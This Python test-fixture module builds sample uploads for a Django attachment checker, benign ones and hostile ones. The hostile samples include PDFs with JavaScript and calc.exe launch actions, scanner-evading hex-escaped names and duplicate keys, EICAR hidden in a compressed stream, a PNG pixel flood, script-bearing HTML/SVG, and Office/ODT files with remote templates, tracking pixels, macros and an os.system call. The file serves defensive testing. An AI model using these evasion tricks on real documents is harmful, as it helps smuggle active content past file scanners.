"""Sample files built in memory for the attachment tests: real formats, made by real libraries.

Good files come from pypdf, Pillow and zipfile; hostile ones are crafted byte by byte where
a library would refuse to write them (a PNG that claims 50 000 × 50 000 pixels, an HTML page
behind a PNG signature…).
"""

import io
import re
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

# Paris, Place de la République, as degrees / minutes / seconds.
GPS_LATITUDE = (48.0, 52.0, 3.0)
GPS_LONGITUDE = (2.0, 21.0, 50.0)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """What a view gets in request.FILES: the name and content type are the browser's word."""
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- PDF ---------------------------------------------------------------------------------


def pdf_bytes(pages: int = 1, writer: PdfWriter | None = None) -> bytes:
    writer = writer or PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('Bonjour');"))
    return pdf_bytes(pages=0, writer=writer)


def pdf_with_launch_action(escaped: bool = False) -> bytes:
    """An open action that launches a program. ``escaped`` writes the name ``/Launch`` as
    ``/L#61unch``: a PDF reader decodes both to the same name, a byte search sees neither."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    data = pdf_bytes(pages=0, writer=writer)
    if escaped:
        assert data.count(b"/Launch") == 1
        data = _rebuild_xref(data.replace(b"/Launch", b"/L#61unch"))
    return data


def _rebuild_xref(data: bytes) -> bytes:
    """Rewrite a classic PDF's cross-reference table from the actual object offsets."""
    body = data[: data.rindex(b"\nxref")] + b"\n"
    offsets = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", body)}
    size = max(offsets) + 1
    table = [b"xref", f"0 {size}".encode(), b"0000000000 65535 f "]
    table += [f"{offsets[number]:010d} 00000 n ".encode() for number in range(1, size)]
    trailer = data[data.rindex(b"trailer") : data.rindex(b"startxref")]
    return body + b"\n".join(table) + b"\n" + trailer + f"startxref\n{len(body)}\n%%EOF\n".encode()


def escape_names(data: bytes) -> bytes:
    """``/JavaScript`` and ``/Launch`` written with a hex escape (``/J#61vaScript``,
    ``/L#61unch``), as pypdf cannot write them: the same names to a PDF reader, invisible to
    a byte search. The cross-reference table is rebuilt for the new offsets."""
    escaped = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Launch", b"/L#61unch")
    assert escaped != data and b"/JavaScript" not in escaped and b"/Launch" not in escaped
    return _rebuild_xref(escaped)


def javascript_action(code: str = "app.alert('Bonjour');") -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def launch_action(program: str = "calc.exe") -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject(program)})


def uri_action(url: str = "https://quartierscafes.org/") -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(url)})


def _uncompressed(writer: PdfWriter) -> bytes:
    return pdf_bytes(pages=0, writer=writer)


def pdf_with_outline_action(action: DictionaryObject, place: str = "nested") -> bytes:
    """Bookmarks, one of which runs ``action`` when clicked.

    ``place``: ``"nested"`` (the action of a bookmark two levels down, after a sibling),
    ``"chained"`` (a harmless GoTo action whose /Next is ``action``).
    """
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    chapter = writer.add_outline_item(title="1. Le projet", page_number=0)
    writer.add_outline_item(title="1.1 Le quartier", page_number=1, parent=chapter)
    section = writer.add_outline_item(title="1.2 Le budget", page_number=1, parent=chapter)
    item = writer.add_outline_item(title="Annexe", page_number=2, parent=section).get_object()
    if place == "nested":
        item[NameObject("/A")] = writer._add_object(action)
    else:
        goto = item["/A"].get_object() if "/A" in item else None
        assert goto is not None and goto["/S"] == "/GoTo"
        goto[NameObject("/Next")] = writer._add_object(action)
    return _uncompressed(writer)


def _text_field(writer: PdfWriter, name: str, rect, **extra) -> DictionaryObject:
    page = writer.pages[0]
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject(name),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
            NameObject("/P"): page.indirect_reference,
            **{NameObject(key): value for key, value in extra.items()},
        }
    )
    return field


def _install_form(writer: PdfWriter, fields) -> None:
    """Put ``fields`` in the AcroForm and their widgets on the first page."""
    refs = [writer._add_object(field) for field in fields]
    widgets = []
    for ref in refs:
        field = ref.get_object()
        kids = field.get("/Kids")
        widgets.extend(kids if kids is not None else [ref])
    writer.pages[0][NameObject("/Annots")] = ArrayObject(widgets)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(refs), NameObject("/NeedAppearances"): BooleanObject(True)}
    )


def pdf_with_field_action(action: DictionaryObject, place: str = "aa") -> bytes:
    """A form whose text field runs ``action``.

    ``place``: ``"aa"`` (the field's additional actions, on a keystroke: /AA /K), or
    ``"kid"`` (a field split into two widgets, /Kids, the second one's /A, on a click).
    """
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if place == "aa":
        field = _text_field(
            writer, "montant", (50, 700, 250, 720), **{"/AA": DictionaryObject({NameObject("/K"): action})}
        )
        _install_form(writer, [field])
    else:
        parent = DictionaryObject({NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("nom")})
        parent_ref = writer._add_object(parent)
        kids = []
        for index, rect in enumerate([(50, 650, 250, 670), (50, 600, 250, 620)]):
            widget = DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Widget"),
                    NameObject("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
                    NameObject("/Parent"): parent_ref,
                }
            )
            if index == 1:
                widget[NameObject("/A")] = action
            kids.append(writer._add_object(widget))
        parent[NameObject("/Kids")] = ArrayObject(kids)
        writer.pages[0][NameObject("/Annots")] = ArrayObject(kids)
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([parent_ref])}
        )
    return _uncompressed(writer)


def ordinary_pdf() -> bytes:
    """What a real application looks like: bookmarks, a form with fields, web links."""
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    chapter = writer.add_outline_item(title="1. Le projet", page_number=0)
    writer.add_outline_item(title="1.1 Le quartier", page_number=1, parent=chapter)
    writer.add_outline_item(title="2. Le budget", page_number=2)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://quartierscafes.org/"))
    link = Link(rect=(50, 80, 200, 100), target_page_index=2)
    writer.add_annotation(0, link)
    fields = [
        _text_field(writer, "nom_du_commerce", (50, 700, 250, 720), **{"/V": TextStringObject("Le Petit Zinc")}),
        _text_field(writer, "site", (50, 650, 250, 670), **{"/A": uri_action()}),
    ]
    refs = [writer._add_object(field) for field in fields]
    writer.pages[0][NameObject("/Annots")].extend(refs)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject(refs)})
    return _uncompressed(writer)


def pdf_with_outline_cycle() -> bytes:
    """A bookmark whose /Next points back to the first one: a reader that follows it loops."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    first = writer.add_outline_item(title="Début", page_number=0)
    second = writer.add_outline_item(title="Suite", page_number=0)
    second.get_object()[NameObject("/Next")] = first
    return _uncompressed(writer)


def pdf_with_deep_outline(levels: int) -> bytes:
    """Bookmarks nested ``levels`` deep (each the only child of the previous one)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    parent = None
    for level in range(levels):
        parent = writer.add_outline_item(title=f"Niveau {level}", page_number=0, parent=parent)
    return _uncompressed(writer)


def pdf_with_many_outline_items(count: int) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for number in range(count):
        writer.add_outline_item(title=f"Repère {number}", page_number=0)
    return _uncompressed(writer)


# --- Handmade PDFs: what no library writes (repeated keys, escaped names, orphan objects) ----

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"


def handmade_pdf(objects: dict[int, bytes], root: int = 1, packed: tuple[int, ...] = ()) -> bytes:
    """A PDF from its objects' source, with a correct cross-reference table.

    Object 1 is usually the catalogue, 2 the page tree, 3 the page (``PAGE``). The objects
    numbered in ``packed`` go into one compressed object stream (PDF 1.5), and the
    cross-reference is then a compressed stream too: nothing of them shows in the bytes."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    plain = {number: source for number, source in objects.items() if number not in packed}
    size = max(objects) + 1
    stream_number = size if packed else None
    if packed:
        header, body = [], b""
        for number in packed:
            header.append(b"%d %d" % (number, len(body)))
            body += objects[number] + b"\n"
        first = b" ".join(header) + b"\n"
        data = zlib.compress(first + body)
        plain[stream_number] = (
            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
            % (
                len(packed),
                len(first),
                len(data),
                data,
            )
        )
        size += 2  # the object stream, the cross-reference stream
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, plain[number])
    start = len(out)
    if not packed:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        return out + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
    rows = [b"\x00" + b"\x00" * 4 + b"\xff\xff"]
    for number in range(1, size):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in packed:
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big"))
        elif number == size - 1:  # the cross-reference stream itself
            rows.append(b"\x01" + start.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" * 5 + b"\xff\xff")
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n" % (
        size - 1,
        size,
        root,
        len(table),
    )
    return out + b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def one_page_pdf(catalogue: bytes = b"", page: bytes = b"", packed: tuple[int, ...] = (), **extra: bytes) -> bytes:
    """A one-page handmade PDF: ``catalogue`` and ``page`` are added to those dictionaries,
    ``extra`` (``o4=b"<< … >>"``) are objects 4, 5… referenced from them."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % page,
    }
    objects.update({int(name[1:]): source for name, source in extra.items()})
    return handmade_pdf(objects, packed=packed)


ESCAPED_JAVASCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert\\(document.cookie\\)) >>"
ESCAPED_LAUNCH = b"<< /S /L#61unch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"
LINK = b" /Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /Border [0 0 0] %s >>]"


def pdf_with_repeated_action_key(case: str) -> bytes:
    """A dictionary that writes an action key twice, a harmless value first: pypdf keeps
    the first, some readers act on the last. The hostile names are hex-escaped so that no
    byte search sees them."""
    if case == "open-action":  # the catalogue's /OpenAction: a GoTo, then a script
        return one_page_pdf(
            catalogue=b" /OpenAction 4 0 R /OpenAction 5 0 R",
            o4=b"<< /S /GoTo /D [3 0 R /Fit] >>",
            o5=ESCAPED_JAVASCRIPT,
        )
    if case == "action-type":  # a link's action: /S /URI, then /S /Launch
        action = b"/A << /S /URI /URI (https://quartierscafes.org/) /S /L#61unch /F (calc.exe) >>"
        return one_page_pdf(page=LINK % action)
    if case == "annotation-action":  # a link's /A: a web address, then a launch action
        return one_page_pdf(
            page=LINK % b"/A << /S /URI /URI (https://quartierscafes.org/) >> /A 4 0 R", o4=ESCAPED_LAUNCH
        )
    if case == "page-additional-actions":  # a page's /AA: empty, then a script on opening
        return one_page_pdf(page=b" /AA << >> /AA << /O 4 0 R >>", o4=ESCAPED_JAVASCRIPT)
    if case == "in-an-object-stream":  # the catalogue and both actions compressed in an object stream
        return one_page_pdf(
            catalogue=b" /OpenAction 4 0 R /OpenAction 5 0 R",
            o4=b"<< /S /GoTo /D [3 0 R /Fit] >>",
            o5=rb"<< /S /JavaScript /JS (app.alert\(1\)) >>",
            packed=(1, 4, 5),
        )
    raise ValueError(case)


#: Actions that reach outside the document, each in the place a reader would act on it.
OUTWARD_ACTIONS = {
    "open-action-uri": dict(catalogue=b" /OpenAction << /S /URI /URI (https://example.org/suivi?lu=1) >>"),
    "page-open-uri": dict(page=b" /AA << /O << /S /URI /URI (https://example.org/suivi) >> >>"),
    "annotation-mouse-over-uri": dict(
        page=LINK % b"/AA << /E << /S /URI /URI (https://example.org/suivi) >> >>",
    ),
    "chained-after-open-uri": dict(
        catalogue=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://example.org/) >> >>"
    ),
    "link-gotor-network-share": dict(
        page=LINK % b"/A << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\piege.pdf) /D [0 /Fit] >>"
    ),
    "link-gotoe": dict(page=LINK % b"/A << /S /GoToE /F (autre.pdf) /D [0 /Fit] /T << /R /C /N (piece) >> >>"),
    "link-submitform": dict(page=LINK % b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.org/collecte) >> >>"),
    "link-importdata": dict(page=LINK % b"/A << /S /ImportData /F (donnees.fdf) >>"),
    "thread-in-another-file": dict(page=LINK % b"/A << /S /Thread /F (autre.pdf) /D 0 >>"),
    "rich-media-annotation": dict(
        page=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>]"
    ),
    "structure-element-annotation": dict(
        # An annotation no page lists, reached through the structure tree (an OBJR).
        catalogue=b" /StructTreeRoot << /Type /StructTreeRoot"
        b" /K << /S /Document /K [<< /Type /OBJR /Obj 4 0 R >>] >> >>",
        o4=b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + ESCAPED_LAUNCH + b" >>",
    ),
}


def pdf_with_outward_action(case: str) -> bytes:
    return one_page_pdf(**OUTWARD_ACTIONS[case])


def pdf_with_clicked_links() -> bytes:
    """What an exported Word document holds: a web link the reader clicks, a bookmark to a
    web page, a link inside the document, a tagged structure."""
    link = LINK % b"/A << /S /URI /URI (https://quartierscafes.org/candidater) >>"
    return one_page_pdf(
        catalogue=(
            b" /Outlines << /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>"
            b" /StructTreeRoot << /Type /StructTreeRoot /K << /S /Document /K [<< /S /P /K 0 /Pg 3 0 R >>] >> >>"
        ),
        page=link,
        o4=b"<< /Title (Site du programme) /Parent 1 0 R /A << /S /URI /URI (https://quartierscafes.org/) >> >>",
    )


def pdf_with_many_bookmarks(count: int) -> bytes:
    """``count`` bookmarks, written by hand (pypdf's writer takes minutes for 100 000): the
    cheapest way to make a PDF checker parse many objects."""
    first = 4
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Outlines << /First %d 0 R /Last %d 0 R /Count %d >> >>"
        % (first, first + count - 1, count),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % b"",
    }
    for index in range(count):
        number = first + index
        following = b" /Next %d 0 R" % (number + 1) if index < count - 1 else b""
        objects[number] = b"<< /Title (Rep\\350re %d) /Dest [3 0 R /Fit]%s >>" % (index, following)
    return handmade_pdf(objects)


#: The EICAR test file: harmless, and detected by every antivirus as if it were a virus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf_with_eicar() -> bytes:
    """A valid PDF whose page content is the EICAR string, Flate-compressed: the raw bytes
    never show it, an antivirus that decodes PDF streams (ClamAV does) finds it."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    stream = StreamObject()
    stream.set_data(EICAR)
    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode())
    data = pdf_bytes(pages=0, writer=writer)
    assert EICAR not in data
    return data


def pdf_with_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    return pdf_bytes(pages=0, writer=writer)


def pdf_with_owner_password_only() -> bytes:
    """Opens without a password (only printing or editing is restricted)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return pdf_bytes(pages=0, writer=writer)


# --- Images --------------------------------------------------------------------------------


def jpeg_with_gps(width: int = 64, height: int = 48, orientation: int = 1) -> bytes:
    """A JPEG whose EXIF carries a GPS position, a camera model and an orientation."""
    image = Image.new("RGB", (width, height), (200, 120, 40))
    for x in range(width // 2):
        image.putpixel((x, 0), (0, 0, 255))  # a blue mark on the top-left edge
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "Téléphone du gérant"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: GPS_LATITUDE,
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: GPS_LONGITUDE,
    }
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif, quality=90)
    return buffer.getvalue()


def image_bytes(fmt: str, size=(40, 30), mode: str = "RGB", **options) -> bytes:
    image = Image.new(mode, size, (10, 150, 90) if mode == "RGB" else None)
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_pixel_flood(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few dozen bytes whose header (with a correct CRC) claims a huge image."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def png_header_then_html() -> bytes:
    return b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.cookie)</script></body></html>"


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)

HTML = b"<!DOCTYPE html><html><head><title>Dossier</title></head><body><script>alert(1)</script></body></html>"


def windows_executable() -> bytes:
    """The start of a PE file: the MZ header, the DOS stub, the PE signature."""
    dos_header = b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return (dos_header + stub).ljust(0x80, b"\x00") + b"PE\x00\x00" + b"\x00" * 400


# --- DOCX and ODT ----------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Plan de financement du café</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes(first: str = "[Content_Types].xml", macros: bool = False, extra: dict | None = None) -> bytes:
    entries = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS, "word/document.xml": DOCUMENT}
    if macros:
        entries["word/vbaProject.bin"] = "\x00" * 32
    entries.update(extra or {})
    order = [first] + [name for name in entries if name != first]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in order:
            archive.writestr(name, entries[name])
    return buffer.getvalue()


def relationships(*rows: str) -> str:
    """A relationships part (``word/_rels/….rels``) holding ``rows``."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    )


OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<w:attachedTemplate r:id="rId1"/></w:settings>'
)
#: An OLE compound file's first bytes (what Word stores for an embedded object).
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

#: Word documents that run something or reach outside when they are opened.
HOSTILE_DOCX = {
    "remote-template": {
        "word/settings.xml": SETTINGS,
        # « Exte&#114;nal »: Word decodes the character reference; a byte search would not.
        "word/_rels/settings.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIP}attachedTemplate" '
            'Target="https://modeles.example.org/lettre.dotm" TargetMode="Exte&#114;nal"/>'
        ),
    },
    "template-on-a-network-share": {
        "word/settings.xml": SETTINGS,
        "word/_rels/settings.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIP}attachedTemplate" '
            'Target="\\\\serveur\\partage\\modele.dotm"/>'
        ),
    },
    "linked-image": {
        "word/_rels/document.xml.rels": relationships(
            f'<Relationship Id="rId5" Type="{OFFICE_RELATIONSHIP}image" '
            'Target="https://suivi.example.org/pixel.png" TargetMode="External"/>'
        ),
    },
    "ole-object": {
        "word/embeddings/oleObject1.bin": OLE_HEADER,
        "word/_rels/document.xml.rels": relationships(
            f'<Relationship Id="rId6" Type="{OFFICE_RELATIONSHIP}oleObject" Target="embeddings/oleObject1.bin"/>'
        ),
    },
    "activex-control": {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>", "word/activeX/activeX1.bin": b"x"},
    "workbook-with-macros": {"word/embeddings/Classeur.xlsm": b"PK\x05\x06" + b"\x00" * 18},
}


def docx_with_web_link_and_chart() -> bytes:
    """An ordinary report: a hyperlink to a web page (clicked) and a chart with its data."""
    return docx_bytes(
        extra={
            "word/_rels/document.xml.rels": relationships(
                f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIP}hyperlink" '
                'Target="https://quartierscafes.org/" TargetMode="External"/>',
                f'<Relationship Id="rId8" Type="{OFFICE_RELATIONSHIP}chart" Target="charts/chart1.xml"/>',
            ),
            "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:x'/>",
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x05\x06" + b"\x00" * 18,
        }
    )


MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
ODF_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink">%s</office:document-content>'
)


def odt_bytes(
    mimetype: str = "application/vnd.oasis.opendocument.text",
    compress_mimetype: bool = False,
    manifest_entries: str = "",
    body: str = "",
    extra: dict | None = None,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            mimetype,
            compress_type=zipfile.ZIP_DEFLATED if compress_mimetype else zipfile.ZIP_STORED,
        )
        archive.writestr(
            "META-INF/manifest.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{MANIFEST_NS}">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            f"{manifest_entries}</manifest:manifest>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
        archive.writestr("content.xml", ODF_CONTENT % body, compress_type=zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _manifest_entry(path: str, media: str) -> str:
    return f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>'


#: OpenDocument texts that run something or reach outside when they are opened.
HOSTILE_ODT = {
    "basic-macros": dict(
        manifest_entries=_manifest_entry("Basic/Standard/Module1.xml", "text/xml"),
        extra={"Basic/Standard/Module1.xml": "<script:module/>", "Basic/script-lc.xml": "<library/>"},
    ),
    "python-script": dict(
        manifest_entries=_manifest_entry("Scripts/python/ouverture.py", ""),
        extra={"Scripts/python/ouverture.py": "import os\nos.system('calc')\n"},
    ),
    "script-in-the-manifest-only": dict(
        manifest_entries=_manifest_entry("Configurations2/macro.xba", "application/vnd.sun.star.basic-script")
    ),
    "macro-on-open": dict(
        body='<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
        "</office:event-listeners>"
    ),
    "ole-object": dict(
        manifest_entries=_manifest_entry("Object 1", "application/vnd.sun.star.oleobject"),
        extra={"Object 1": OLE_HEADER},
    ),
    "ole-object-not-in-the-manifest": dict(extra={"Object 2": OLE_HEADER}),
    "remote-template": dict(
        extra={
            "meta.xml": '<?xml version="1.0"?><office:document-meta '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta>'
            '<meta:template xlink:type="simple" xlink:href="https://modeles.example.org/lettre.ott"/>'
            "</office:meta></office:document-meta>"
        }
    ),
    "linked-image": dict(
        body='<office:body><office:text><text:p><draw:frame><draw:image xlink:type="simple" '
        'xlink:href="https://suivi.example.org/pixel.png"/></draw:frame></text:p></office:text></office:body>'
    ),
}


def odt_with_web_link_and_chart() -> bytes:
    """An ordinary text: a hyperlink (clicked), an image and a chart inside the package."""
    return odt_bytes(
        body='<office:body><office:text><text:p><text:a xlink:type="simple" '
        'xlink:href="https://quartierscafes.org/">le programme</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/devanture.png"/></draw:frame>'
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p></office:text></office:body>',
        manifest_entries=_manifest_entry("Object 1/", "application/vnd.oasis.opendocument.chart"),
        extra={"Object 1/content.xml": "<chart/>", "Pictures/devanture.png": b"\x89PNG"},
    )


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lisez-moi.txt", "Bonjour")
        archive.writestr("programme.exe", windows_executable())
    return buffer.getvalue()
